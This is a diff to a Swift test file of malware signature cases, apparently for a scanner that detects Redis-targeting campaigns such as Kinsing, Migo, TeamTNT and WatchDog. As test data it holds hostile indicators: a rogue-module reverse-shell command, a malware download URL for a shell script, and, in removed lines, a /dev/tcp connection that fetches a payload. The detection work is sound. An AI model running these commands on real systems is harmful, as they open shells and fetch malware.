@@ -212,7 +212,7 @@ struct SignatureCase: Sendable, CustomTestStringConvertible {
     SignatureCase(
       "rogue-module",
       found: [
-        "system.exec 'id'", "system.rev 192.0.2.1 4444", "/tmp/exp.so", "MODULE LOAD red2.so",
+        "system.exec 'id'", "system.rev 192.0.2.1 4444", "/tmp/exp.so", "MODULE LOAD exp_lin.so",
       ],
       leftAlone: ["ecosystem.executor", "export.so", "libexp.so", "system.execute"]),
   ]
@@ -222,8 +222,8 @@ struct SignatureCase: Sendable, CustomTestStringConvertible {
       "key-backup-1-to-4", found: ["backup1", "Backup4"],
       leftAlone: ["backup5", "backup10", "my-backup1", "backup1:x"]),
     SignatureCase(
-      "key-crackit", found: ["crackit", "crackiit"],
-      leftAlone: ["crackit2", "firecrackit", "cracket"]),
+      "key-crackit", found: ["crackit"],
+      leftAlone: ["crackit2", "firecrackit", "crackiit"]),
     SignatureCase(
       "watchdog",
       found: ["http://oracle.zzhreceive.top/b2f628/b.sh", "/cleanfda/init.sh", "cd1 -fsSL x"],
@@ -232,12 +232,8 @@ struct SignatureCase: Sendable, CustomTestStringConvertible {
       "kinsing", found: ["/tmp/kinsing", "kdevtmpfsi", "kinsing2"],
       leftAlone: ["blinkinsingle", "kinsingle", "devtmpfs"]),
     SignatureCase(
-      "migo", found: ["mimigo", "/tmp/.migo", "migo_worker"],
-      leftAlone: ["mimigos", "amigo", "x.migrate", "/tmp/.migos"]),
-    SignatureCase(
-      "p2pinfect",
-      found: ["exec 6<>/dev/tcp/192.0.2.1/60100 && echo -n 'GET /linux' >&6"],
-      leftAlone: ["exec 6<>/dev/tcp/192.0.2.1/80; echo GET /", "GET /linux HTTP/1.1"]),
+      "migo", found: ["/tmp/.migo"],
+      leftAlone: ["amigo", "x.migrate", "/tmp/.migos", ".migo"]),
     SignatureCase(
       "teamtnt", found: ["http://teamtnt.red/x", "TeamTNT was here"],
       leftAlone: ["teamtnt", "chimaera.com", "borg.wtfs"]),
